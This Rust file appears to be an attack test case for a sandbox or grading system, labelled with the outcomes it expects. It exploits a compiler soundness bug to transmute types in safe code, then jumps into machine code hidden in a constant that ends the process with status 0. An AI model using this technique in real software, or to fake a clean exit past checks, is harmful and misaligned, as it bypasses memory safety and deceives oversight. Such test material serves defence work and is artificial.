//! attack: Reads any type as any other (rust-lang/rust#84591) and jumps into a constant of its own code, which ends the process with 0.
//! exercise: 01
//! base: stub
//! expects: policy compile_error tampered
//! layers: tokens lockdown protocol

trait Supertrait<'a, 'b> {
    fn convert<T: ?Sized>(value: &'a T) -> &'b T;
}

trait Subtrait<'a, 'b, R>: Supertrait<'a, 'b> {}

struct Lie;

impl<'a: 'b, 'b> Supertrait<'a, 'b> for Lie {
    fn convert<T: ?Sized>(value: &'a T) -> &'b T {
        value
    }
}

impl<'a, 'b> Subtrait<'a, 'b, &'b &'a ()> for Lie {}

fn by_supertrait<'x, 'y, S, T: ?Sized>(value: &'x T) -> &'y T
where
    S: for<'a, 'b> Supertrait<'a, 'b>,
{
    S::convert(value)
}

fn by_subtrait<'x, 'y, S, T: ?Sized>(value: &'x T) -> &'y T
where
    S: for<'a, 'b> Subtrait<'a, 'b, &'b &'a ()>,
{
    by_supertrait::<S, T>(value)
}

fn extend<T: ?Sized>(value: &T) -> &'static T {
    by_subtrait::<Lie, T>(value)
}

/// Reads a value of one type as another, through a slot that has changed its type meanwhile.
enum Slot<A, B> {
    A(std::cell::Cell<Option<Box<A>>>),
    B(std::cell::Cell<Option<Box<B>>>),
}

fn transmute<A: 'static, B: 'static>(value: A) -> B {
    let mut slot: Slot<A, B> = Slot::B(std::cell::Cell::new(None));
    let Slot::B(as_b) = &slot else { unreachable!() };
    let as_b: &'static std::cell::Cell<Option<Box<B>>> = extend(as_b);
    slot = Slot::A(std::cell::Cell::new(Some(Box::new(value))));
    std::hint::black_box(&slot);
    *as_b.take().unwrap()
}

/// Holds, as a constant in its code: `xor eax, eax; xor edi, edi; mov al, 231; syscall`.
#[inline(never)]
fn holder(x: u64) -> u64 {
    std::hint::black_box(x) ^ 0x050f_e7b0_ff31_c031
}

/// Jumps into that constant: the process ends with 0.
fn attack() {
    let code = holder as fn(u64) -> u64 as usize;
    let bytes: &'static [u8; 64] = transmute(code);
    let constant = 0x050f_e7b0_ff31_c031_u64.to_ne_bytes();
    let at = bytes.windows(8).position(|window| window == constant).unwrap_or(0);
    let exit: fn() = transmute(code + at);
    exit();
}
